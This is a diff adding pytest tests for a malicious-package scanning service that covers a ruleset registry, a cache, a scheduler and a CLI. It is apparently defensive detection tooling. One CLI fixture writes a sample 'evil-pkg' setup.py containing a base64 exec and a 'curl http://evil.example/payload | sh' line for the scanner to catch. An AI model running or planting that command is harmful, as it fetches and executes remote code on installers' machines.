@@ -1,0 +1,337 @@
+"""Registry, cache, scheduler and the batch-scanning service (plus the CLI)."""
+
+import json
+
+import pytest
+
+from repro.cli import main as cli_main
+from repro.evaluation.detector import PackageDetection, RuleScanner
+from repro.scanserve import (
+    BoundedQueue,
+    RulesetRegistry,
+    ScanResultCache,
+    ScanScheduler,
+    ScanService,
+    ScanServiceConfig,
+    shard_items,
+)
+from repro.yarax import compile_source
+
+
+def _tiny_yara(name="tiny", needle="needle_zzz"):
+    return compile_source(
+        f'rule {name} {{ strings: $a = "{needle}" condition: $a }}'
+    )
+
+
+# -- registry -----------------------------------------------------------------------
+
+
+class TestRulesetRegistry:
+    def test_empty_registry_raises(self):
+        registry = RulesetRegistry()
+        with pytest.raises(LookupError):
+            registry.current()
+
+    def test_publish_and_hot_swap(self):
+        registry = RulesetRegistry()
+        v1 = registry.publish(yara=_tiny_yara("first"), label="gen-1")
+        assert registry.current().version == v1.version == 1
+        v2 = registry.publish(yara=_tiny_yara("second"), label="gen-2")
+        assert registry.current().version == v2.version == 2
+        assert registry.versions() == [1, 2]
+
+    def test_publish_without_activation(self):
+        registry = RulesetRegistry()
+        registry.publish(yara=_tiny_yara("live"))
+        staged = registry.publish(yara=_tiny_yara("staged"), activate=False)
+        assert registry.current().version == 1
+        registry.activate(staged.version)
+        assert registry.current().version == staged.version
+
+    def test_rollback(self):
+        registry = RulesetRegistry()
+        registry.publish(yara=_tiny_yara("good"))
+        registry.publish(yara=_tiny_yara("bad"))
+        registry.activate(1)
+        assert registry.current().index.stats().yara_rules == 1
+        assert registry.current().yara.rule_names() == ["good"]
+
+    def test_retire_rules(self):
+        registry = RulesetRegistry()
+        registry.publish(yara=_tiny_yara("a"))
+        registry.publish(yara=_tiny_yara("b"))
+        registry.retire(1)
+        assert registry.versions() == [2]
+        with pytest.raises(ValueError):
+            registry.retire(2)  # cannot retire the active version
+        with pytest.raises(LookupError):
+            registry.get(1)
+
+    def test_publish_needs_rules(self):
+        with pytest.raises(ValueError):
+            RulesetRegistry().publish()
+
+    def test_publish_generated(self, generated_rules):
+        registry = RulesetRegistry()
+        version = registry.publish_generated(generated_rules, label="pipeline")
+        assert version.rule_count > 0
+        assert "pipeline" in version.describe()
+
+
+# -- cache --------------------------------------------------------------------------
+
+
+class TestScanResultCache:
+    def _detection(self, name="pkg==1.0"):
+        return PackageDetection(
+            package=name, actual_malicious=True, yara_rules=["r1"]
+        )
+
+    def test_roundtrip_and_stats(self):
+        cache = ScanResultCache(max_entries=8)
+        assert cache.get("fp", 1) is None
+        cache.put("fp", 1, self._detection())
+        hit = cache.get("fp", 1)
+        assert hit is not None and hit.yara_rules == ["r1"]
+        assert cache.stats.hits == 1 and cache.stats.misses == 1
+
+    def test_version_isolation(self):
+        cache = ScanResultCache()
+        cache.put("fp", 1, self._detection())
+        assert cache.get("fp", 2) is None  # new ruleset version: no stale hits
+
+    def test_returned_detections_are_copies(self):
+        cache = ScanResultCache()
+        cache.put("fp", 1, self._detection())
+        cache.get("fp", 1).yara_rules.append("mutated")
+        assert cache.get("fp", 1).yara_rules == ["r1"]
+
+    def test_lru_eviction(self):
+        cache = ScanResultCache(max_entries=2)
+        cache.put("a", 1, self._detection("a"))
+        cache.put("b", 1, self._detection("b"))
+        assert cache.get("a", 1) is not None  # refresh 'a'
+        cache.put("c", 1, self._detection("c"))
+        assert cache.get("b", 1) is None  # 'b' was least recently used
+        assert cache.get("a", 1) is not None
+        assert cache.stats.evictions == 1
+
+    def test_invalidate_version(self):
+        cache = ScanResultCache()
+        cache.put("a", 1, self._detection())
+        cache.put("b", 1, self._detection())
+        cache.put("a", 2, self._detection())
+        assert cache.invalidate_version(1) == 2
+        assert len(cache) == 1
+
+
+# -- scheduler ----------------------------------------------------------------------
+
+
+def _double_shard(shard):
+    return [value * 2 for _, value in shard]
+
+
+class TestScheduler:
+    def test_shard_items_round_robin(self):
+        shards = shard_items(["a", "b", "c", "d", "e"], 2)
+        assert shards == [[(0, "a"), (2, "c"), (4, "e")], [(1, "b"), (3, "d")]]
+
+    def test_more_shards_than_items(self):
+        assert shard_items(["a"], 4) == [[(0, "a")]]
+
+    def test_inprocess_run(self):
+        scheduler = ScanScheduler(mode="inprocess")
+        report = scheduler.run(shard_items([1, 2, 3, 4], 2), _double_shard)
+        assert report.results == [[2, 6], [4, 8]]
+        assert report.mode == "inprocess"
+
+    def test_process_run_or_fallback(self):
+        scheduler = ScanScheduler(mode="auto", max_workers=2)
+        report = scheduler.run(shard_items(list(range(8)), 4), _double_shard)
+        flattened = sorted(v for shard in report.results for v in shard)
+        assert flattened == [v * 2 for v in range(8)]
+        assert report.mode in ("process", "inprocess")
+
+    def test_unknown_mode_rejected(self):
+        with pytest.raises(ValueError):
+            ScanScheduler(mode="celery")
+
+    def test_bounded_queue_backpressure(self):
+        queue = BoundedQueue(max_items=2)
+        assert queue.put(1) and queue.put(2)
+        assert not queue.put(3, timeout=0.01)  # full: put times out
+        assert queue.get() == 1
+        assert queue.put(3, timeout=0.01)
+        assert queue.drain() == [2, 3]
+        queue.close()
+        with pytest.raises(RuntimeError):
+            queue.get()
+
+
+# -- service ------------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def service(generated_rules):
+    svc = ScanService(config=ScanServiceConfig(shards=2, mode="inprocess"))
+    svc.publish_generated(generated_rules, label="session rules")
+    return svc
+
+
+class TestScanService:
+    def test_batch_parity_with_naive_scanner(
+        self, service, generated_rules, small_dataset
+    ):
+        """The service's detections are identical to a naive RuleScanner pass."""
+        naive = RuleScanner(
+            yara_rules=generated_rules.compile_yara(),
+            semgrep_rules=generated_rules.compile_semgrep(),
+        ).scan(small_dataset.packages)
+        batch = service.scan_batch(small_dataset.packages)
+        assert [
+            (d.package, d.yara_rules, d.semgrep_rules) for d in batch.detections
+        ] == [(d.package, d.yara_rules, d.semgrep_rules) for d in naive.detections]
+        assert batch.result.confusion() == naive.confusion()
+
+    def test_cache_serves_repeat_batches(self, service, small_dataset):
+        before = service.cache.stats.hits
+        batch = service.scan_batch(small_dataset.packages)
+        assert batch.cache_hits == len(small_dataset.packages)
+        assert service.cache.stats.hits > before
+
+    def test_hot_swap_invalidates_results(self, small_dataset):
+        svc = ScanService(config=ScanServiceConfig(mode="inprocess"))
+        svc.publish(yara=_tiny_yara(needle="no_such_token_anywhere"))
+        first = svc.scan_batch(small_dataset.packages[:4])
+        assert all(not d.matched_rules for d in first.detections)
+        # hot-swap in a rule that matches everything ('import' appears everywhere)
+        svc.publish(yara=_tiny_yara("catch_all", needle="import"))
+        second = svc.scan_batch(small_dataset.packages[:4])
+        assert second.ruleset_version == first.ruleset_version + 1
+        assert second.cache_hits == 0  # version key change bypasses stale entries
+        assert all(d.matched_rules for d in second.detections)
+
+    def test_shard_stats_cover_all_packages(self, small_dataset, generated_rules):
+        svc = ScanService(
+            config=ScanServiceConfig(shards=3, mode="inprocess", enable_cache=False)
+        )
+        svc.publish_generated(generated_rules)
+        batch = svc.scan_batch(small_dataset.packages)
+        assert len(batch.shard_stats) == 3
+        assert sum(s.packages for s in batch.shard_stats) == len(
+            small_dataset.packages
+        )
+        assert batch.packages_per_second > 0
+        assert batch.result.timings.packages == len(small_dataset.packages)
+
+    def test_scan_package_single(self, service, small_dataset):
+        detection = service.scan_package(small_dataset.packages[0])
+        assert detection.package == small_dataset.packages[0].identifier
+
+    def test_to_json_report(self, service, small_dataset):
+        batch = service.scan_batch(small_dataset.packages[:3])
+        report = json.loads(batch.to_json())
+        assert report["packages"] == 3
+        assert len(report["detections"]) == 3
+        assert {"package", "malicious", "matched_rules"} <= set(
+            report["detections"][0]
+        )
+
+    def test_match_threshold_respected(self, generated_rules, small_dataset):
+        svc = ScanService(
+            config=ScanServiceConfig(mode="inprocess", match_threshold=99)
+        )
+        svc.publish_generated(generated_rules)
+        batch = svc.scan_batch(small_dataset.packages[:5])
+        assert batch.result.confusion().true_positive == 0
+
+    def test_service_stats_accumulate(self, generated_rules, small_dataset):
+        svc = ScanService(config=ScanServiceConfig(mode="inprocess"))
+        svc.publish_generated(generated_rules)
+        svc.scan_batch(small_dataset.packages[:4])
+        svc.scan_batch(small_dataset.packages[:4])
+        assert svc.stats.batches == 2
+        assert svc.stats.packages_scanned == 8
+        assert svc.stats.cache_hits == 4
+
+
+# -- indexed RuleScanner ------------------------------------------------------------
+
+
+class TestIndexedRuleScanner:
+    def test_with_index_matches_naive(self, generated_rules, small_dataset):
+        yara = generated_rules.compile_yara()
+        semgrep = generated_rules.compile_semgrep()
+        naive = RuleScanner(yara_rules=yara, semgrep_rules=semgrep)
+        indexed = RuleScanner.with_index(yara_rules=yara, semgrep_rules=semgrep)
+        assert indexed.index is not None
+        for package in small_dataset.packages:
+            a = naive.scan_package(package)
+            b = indexed.scan_package(package)
+            assert (a.yara_rules, a.semgrep_rules) == (b.yara_rules, b.semgrep_rules)
+
+    def test_scan_exposes_timings(self, generated_rules, small_dataset):
+        scanner = RuleScanner(yara_rules=generated_rules.compile_yara())
+        result = scanner.scan(small_dataset.packages[:5])
+        assert result.timings.packages == 5
+        assert result.timings.total_seconds > 0
+        assert result.timings.yara_seconds > 0
+        assert all(d.scan_seconds >= 0 for d in result.detections)
+
+
+# -- CLI ----------------------------------------------------------------------------
+
+
+class TestScanBatchCli:
+    @pytest.fixture()
+    def rules_dir(self, tmp_path, generated_rules):
+        return str(generated_rules.save(tmp_path / "rules"))
+
+    @pytest.fixture()
+    def package_root(self, tmp_path):
+        root = tmp_path / "pkgs"
+        evil = root / "evil-pkg"
+        evil.mkdir(parents=True)
+        (evil / "setup.py").write_text(
+            "import base64, os\n"
+            'exec(base64.b64decode("aW1wb3J0IG9z"))\n'
+            'os.system("curl http://evil.example/payload | sh")\n',
+            encoding="utf-8",
+        )
+        nice = root / "nice-pkg"
+        nice.mkdir()
+        (nice / "lib.py").write_text("def add(a, b):\n    return a + b\n", encoding="utf-8")
+        return root
+
+    def test_scan_batch_cli(self, rules_dir, package_root, tmp_path, capsys):
+        report_path = tmp_path / "report.json"
+        exit_code = cli_main(
+            [
+                "scan-batch",
+                "--rules",
+                rules_dir,
+                "--shards",
+                "2",
+                "--mode",
+                "inprocess",
+                "--json",
+                str(report_path),
+                str(package_root),
+            ]
+        )
+        output = capsys.readouterr().out
+        assert "published ruleset v1" in output
+        assert "pkg/s" in output
+        report = json.loads(report_path.read_text(encoding="utf-8"))
+        assert report["packages"] == 2
+        assert exit_code in (0, 2)
+
+    def test_scan_batch_cli_no_rules(self, tmp_path, package_root):
+        assert (
+            cli_main(
+                ["scan-batch", "--rules", str(tmp_path / "none"), str(package_root)]
+            )
+            == 1
+        )
